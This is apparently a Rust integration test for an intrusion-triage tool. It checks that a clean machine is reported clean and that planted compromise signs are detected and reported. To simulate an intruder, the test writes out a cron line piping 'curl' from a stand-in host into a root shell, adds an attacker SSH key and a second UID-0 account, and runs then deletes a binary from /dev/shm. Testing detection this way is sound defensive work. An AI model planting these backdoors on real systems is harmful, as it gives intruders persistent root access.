//! Did anybody get in? A clean machine, and one with what intruders leave.

use crate::incident::Incident;

/// What an intruder left: a key, a downloader, a second root. The process comes after the boot.
fn plant(machine: &kannuki_tests::machine::Machine) {
    machine.write("/root/.ssh/authorized_keys", KEY);
    machine.write("/etc/cron.d/php5", "* * * * * root curl -fsSL http://198.51.100.7/u | sh\n");
    let passwd = machine.read("/etc/passwd");
    machine.write("/etc/passwd", &format!("{passwd}sysadm:x:0:0::/root:/bin/bash\n"));
    let shadow = machine.read("/etc/shadow");
    machine.write("/etc/shadow", &format!("{shadow}sysadm:!:20000:0:99999:7:::\n"));
}

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIEtwQcnQ6Ba3y7Pbo8WZ8gBZ8Tl1jmFq8Yk4v0b9n\
                   Xq x@parrot\n";

/// Starts a program from a place where everybody may write, and takes its file away.
const RUN_DELETED: &str = "cp /bin/sleep /dev/shm/.d && { /dev/shm/.d 600 >/dev/null 2>&1 & } \
                           && sleep 1 && rm /dev/shm/.d";

#[test]
fn a_clean_machine_is_a_reflector_and_a_planted_one_is_not() {
    let Some(incident) = Incident::happens() else { return };
    let machine = &incident.machine;
    // Installed long ago: what comes now does not belong to the installation.
    machine.run("touch -c -d 2026-01-05 /etc/machine-id /etc/ssh/ssh_host_rsa_key.pub");
    let clean = machine.attempt("kannuki triage --lang en");
    let page = String::from_utf8_lossy(&clean.stdout);
    assert_eq!(clean.status.code(), Some(0), "{page}{}", String::from_utf8_lossy(&clean.stderr));
    assert!(page.contains("An open memcached explains the traffic"), "{page}");
    assert!(!page.contains("[STRONG]") && !page.contains("[SUSPICIOUS]"), "{page}");
    assert!(page.contains("udp 0.0.0.0:11211 OPEN"), "{page}");
    assert!(page.lines().all(|line| line.chars().count() <= 80 || !line.contains(' ')), "{page}");

    the_letter_tells_what_was_seen(machine);

    plant(machine);
    machine.run(RUN_DELETED);
    machine.run(LOG_IN);
    let planted = machine.attempt("kannuki triage --lang en --bundle /root/evidence.tar");
    let page = String::from_utf8_lossy(&planted.stdout);
    assert_eq!(planted.status.code(), Some(1), "{page}");
    assert!(page.contains("There are signs that somebody got in"), "{page}");
    // Without line ends: where a sentence is broken depends on what it is filled with.
    let flat = page.split_whitespace().collect::<Vec<_>>().join(" ");
    for sign in [
        "TR-03: It still runs from /dev/shm/.d",
        "TR-19: The account sysadm has the number 0",
        "TR-15: root came in from 198.51.100.7 with a password: 1 times",
        "TR-20: A key may log in as root (x@parrot)",
        "TR-23: A line in /etc/cron.d/php5 fetches something from the network and runs it",
    ] {
        assert!(flat.contains(sign), "{sign}: {page}");
    }
    let listed = machine.run("tar -tvf /root/evidence.tar && stat -c %a /root/evidence.tar");
    assert!(listed.contains("-php5") && listed.trim().ends_with("600"), "{listed}");
    assert!(!listed.contains("shadow"), "{listed}");
    machine.run("cd /root && tar -xf evidence.tar && cd case-* && sha256sum -c MANIFEST.sha256");
    the_journal_of_a_disk_tells_the_same(machine);
    let secrets = machine.attempt("grep -rl 'sysadm:!' /root/case-*");
    assert!(!secrets.status.success(), "no line of /etc/shadow is in the bundle");
}

/// As the ssh server says it, into the journal.
const LOG_IN: &str = "logger -t sshd 'Accepted password for root from 198.51.100.7 port 22 ssh2' \
                      && journalctl --sync";

/// Read from its files: nothing runs that could read them.
fn the_journal_of_a_disk_tells_the_same(machine: &kannuki_tests::machine::Machine) {
    machine.run(
        "mkdir -p /srv/disk/var /srv/disk/run && cp -a /etc /srv/disk/ && cp -a /var/log \
         /srv/disk/var/ && if [ -d /run/log ]; then cp -a /run/log /srv/disk/run/; fi",
    );
    let disk = machine.attempt("kannuki triage --root /srv/disk --lang en");
    let page = String::from_utf8_lossy(&disk.stdout);
    assert!(page.contains("root came in from 198.51.100.7 with a password: 1 times"), "{page}");
}

/// From what was saved, with the times of the machine's own logs; the rest are blanks.
fn the_letter_tells_what_was_seen(machine: &kannuki_tests::machine::Machine) {
    // Both end with 1 or 3 where something was found; the letter needs the files.
    machine.attempt("cd /root && kannuki check --probe --facts open.json");
    machine.attempt("cd /root && kannuki triage --format json --output triage.json");
    let letter = machine.run(
        "cd /root && kannuki report --lang en --zone UTC --facts open.json --triage triage.json",
    );
    let log = machine.run("grep -h ' install memcached' /var/log/dpkg.log");
    let when = log.get(..19).expect("dpkg writes date and time");
    assert!(letter.contains(&format!("{when} UTC: memcached was installed")), "{log}{letter}");
    assert!(letter.contains("listened at 0.0.0.0:11211 over UDP"), "{letter}");
    assert!(letter.contains("times as long as the question"), "{letter}");
    assert!(letter.contains("None of these checks saw a sign"), "{letter}");
    assert!(letter.contains("203.0.113.10"), "{letter}");
    assert!(!letter.contains("203.0.113.99"), "no victim: {letter}");
    // Nothing was shut, so no measure is told.
    assert!(letter.contains("[FILL IN: what was done"), "{letter}");
    let empty = machine.run("kannuki report --lang ja");
    assert!(
        !empty.contains("2026-") && empty.matches("\u{3010}\u{8981}\u{8a18}\u{5165}").count() > 9
    );
}
